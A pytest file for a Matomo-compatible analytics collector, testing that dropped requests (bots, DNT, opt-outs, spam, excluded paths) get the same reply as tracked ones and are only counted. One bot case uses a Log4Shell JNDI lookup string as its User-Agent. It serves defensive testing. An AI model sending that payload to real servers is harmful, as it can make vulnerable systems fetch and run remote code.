"""One test per drop reason: the reply is identical to a tracked request's, the reason is
in X-Collector-Dropped (but for opted_out, which no reply tells), and nothing but the
counter is stored."""

from __future__ import annotations

import dataclasses
import sqlite3
from typing import Any

import httpx
import pytest

from collector.clock import FrozenClock
from collector.model import DropReason, Site
from collector.optout.keyed import user_ref_hash
from collector.storage.sqlite import SqliteStore
from tests.conftest import BROWSER_HEADERS, rows

PAGE = {"rec": "1", "url": "https://example.com/pricing", "action_name": "Pricing"}

CASES: list[tuple[str, dict[str, str], dict[str, str]]] = [
    ("no_rec", {"rec": ""}, {}),
    ("dnt", {}, {"DNT": "1"}),
    ("dnt", {}, {"X-Do-Not-Track": "1"}),
    ("gpc", {}, {"Sec-GPC": "1"}),
    ("opted_out", {"uid": "user-42"}, {}),
    ("prefetch", {}, {"X-Purpose": "preview"}),
    ("prefetch", {}, {"X-Moz": "prefetch"}),
    ("bot", {}, {"User-Agent": "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"}),
    (
        "bot",
        {},
        {
            "User-Agent": "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
            "HeadlessChrome/130.0.0.0 Safari/537.36"
        },
    ),
    ("bot", {}, {"User-Agent": "Mozilla/5.0 (compatible; GPTBot/1.2; +https://openai.com/gptbot)"}),
    ("bot", {}, {"User-Agent": "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)"}),
    ("bot", {}, {"User-Agent": "${jndi:ldap://203.0.113.9/a}"}),
    (
        "bot",
        {
            "ua": "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
            "HeadlessChrome/130.0.0.0 Safari/537.36"
        },
        {},
    ),
    ("library", {}, {"User-Agent": "python-requests/2.22.0"}),
    ("library", {"ua": "curl/8.5.0"}, {}),
    ("foreign_host", {"url": "https://evil.example/pricing"}, {}),
    ("spam", {"urlref": "https://semalt.com/"}, {}),
    ("no_consent", {}, {}),
    ("excluded", {"url": "https://example.com/admin/users"}, {}),
]
# The reasons that come from the site's settings: the settings that drop the case's
# request, and the parameters a request needs to be tracked under them.
SITE_SETTINGS: dict[str, tuple[dict[str, Any], dict[str, str]]] = {
    "no_consent": ({"consent_mode": "consent_required"}, {"consent": "1"}),
    "excluded": ({"exclusions": ("path:/admin/*",)}, {}),
    "library": ({"drop_libraries": True}, {}),
}


def test_every_drop_reason_has_a_case() -> None:
    assert {reason for reason, _, _ in CASES} == {r.value for r in DropReason}


async def _send(
    client: httpx.AsyncClient, site: Site, params: dict[str, str], headers: dict[str, str], send_image: bool
) -> httpx.Response:
    query: dict[str, Any] = {"idsite": site.id, **PAGE, **params}
    if not send_image:
        query["send_image"] = "0"
    return await client.get("/matomo.php", params=query, headers={**BROWSER_HEADERS, **headers})


@pytest.mark.parametrize("send_image", [True, False])
@pytest.mark.parametrize("reason, params, headers", CASES)
async def test_a_dropped_request_is_answered_like_a_tracked_one_and_only_counted(
    client: httpx.AsyncClient,
    site: Site,
    store: SqliteStore,
    clock: FrozenClock,
    db: sqlite3.Connection,
    reason: str,
    params: dict[str, str],
    headers: dict[str, str],
    send_image: bool,
) -> None:
    await store.add_optout(site.id, user_ref_hash(site.secret, "user-42"), clock())
    changes, tracked_params = SITE_SETTINGS.get(reason, ({}, {}))
    if changes:  # before the first request, so the ingest's site cache holds these
        settings = dataclasses.replace(site.settings, **changes)
        await store.update_site(site.id, site.name, site.domains, site.timezone, settings)
    dropped = await _send(client, site, params, headers, send_image)
    assert rows(db, "SELECT count(*) AS n FROM events") == [{"n": 0}]
    assert rows(db, "SELECT site_id, day, reason, n FROM dropped") == [
        {"site_id": site.id, "day": "2026-11-22", "reason": reason, "n": 1}
    ]
    tracked = await _send(client, site, tracked_params, {}, send_image)
    assert rows(db, "SELECT count(*) AS n FROM events") == [{"n": 1}]
    # an opt-out is the opt-out API's to tell (with its token): the reply says nothing of it
    assert dropped.headers.get("x-collector-dropped") == (None if reason == "opted_out" else reason)
    assert "x-collector-dropped" not in tracked.headers
    assert (dropped.status_code, dropped.content) == (tracked.status_code, tracked.content)
    same = {k: v for k, v in dropped.headers.items() if k != "x-collector-dropped"}
    assert same == dict(tracked.headers)


@pytest.mark.parametrize("send_image", [True, False])
async def test_a_reply_does_not_tell_whether_its_uid_has_opted_out(
    client: httpx.AsyncClient,
    site: Site,
    store: SqliteStore,
    clock: FrozenClock,
    db: sqlite3.Connection,
    send_image: bool,
) -> None:
    """Anyone can send a beacon with someone's uid: the reply must be the same whether that
    user opted out or not (before, it said X-Collector-Dropped: opted_out for those only)."""
    await store.add_optout(site.id, user_ref_hash(site.secret, "user-42"), clock())
    opted = await _send(client, site, {"uid": "user-42"}, {}, send_image)
    other = await _send(client, site, {"uid": "user-43"}, {}, send_image)
    assert (opted.status_code, opted.content, dict(opted.headers)) == (
        other.status_code,
        other.content,
        dict(other.headers),
    )
    assert rows(db, "SELECT count(*) AS n FROM events") == [{"n": 1}]  # user-43's only
    assert rows(db, "SELECT reason, n FROM dropped") == [{"reason": "opted_out", "n": 1}]
    for uids in (["user-42", "user-43"], ["user-43", "user-44"]):
        body = {"requests": [f"?idsite={site.id}&rec=1&url=https://example.com/b&uid={u}" for u in uids]}
        reply = await client.post("/matomo.php", json=body, headers=BROWSER_HEADERS)
        assert reply.status_code == 200 and "x-collector-dropped" not in reply.headers
        assert reply.json() == {"status": "success", "tracked": 2, "invalid": 0, "invalid_indices": []}
    assert rows(db, "SELECT reason, n FROM dropped") == [{"reason": "opted_out", "n": 2}]


async def test_a_library_is_counted_unless_the_site_drops_libraries(
    client: httpx.AsyncClient, site: Site, db: sqlite3.Connection
) -> None:
    """matomo-sdk-py sends python-requests' User-Agent: Matomo counts it, and so do we."""
    reply = await _send(client, site, {}, {"User-Agent": "python-requests/2.22.0"}, True)
    assert "x-collector-dropped" not in reply.headers
    assert rows(db, "SELECT browser, browser_major, os, device FROM events") == [
        {"browser": "Python Requests", "browser_major": "2", "os": None, "device": "other"}
    ]


async def test_bots_1_keeps_a_library_where_the_site_drops_them(
    client: httpx.AsyncClient, site: Site, store: SqliteStore, db: sqlite3.Connection
) -> None:
    settings = dataclasses.replace(site.settings, drop_libraries=True)
    await store.update_site(site.id, site.name, site.domains, site.timezone, settings)
    reply = await _send(client, site, {"bots": "1"}, {"User-Agent": "curl/8.5.0"}, True)
    assert "x-collector-dropped" not in reply.headers
    assert rows(db, "SELECT browser, device FROM events") == [{"browser": "curl", "device": "other"}]


async def test_bots_1_keeps_a_bot(client: httpx.AsyncClient, site: Site, db: sqlite3.Connection) -> None:
    reply = await _send(client, site, {"bots": "1"}, {"User-Agent": "Googlebot/2.1"}, True)
    assert "x-collector-dropped" not in reply.headers
    assert rows(db, "SELECT device FROM events") == [{"device": "bot"}]


async def test_a_subdomain_of_the_site_is_not_foreign(
    client: httpx.AsyncClient, site: Site, db: sqlite3.Connection
) -> None:
    reply = await _send(client, site, {"url": "https://shop.example.com/x"}, {}, True)
    assert "x-collector-dropped" not in reply.headers
    assert rows(db, "SELECT path FROM events") == [{"path": "/x"}]


async def test_the_uid_is_never_stored(client: httpx.AsyncClient, site: Site, settings: Any) -> None:
    await _send(client, site, {"uid": "distinctive-user-771"}, {}, True)
    data = b"".join(p.read_bytes() for p in settings.data_dir.iterdir() if p.is_file())
    assert b"distinctive-user-771" not in data
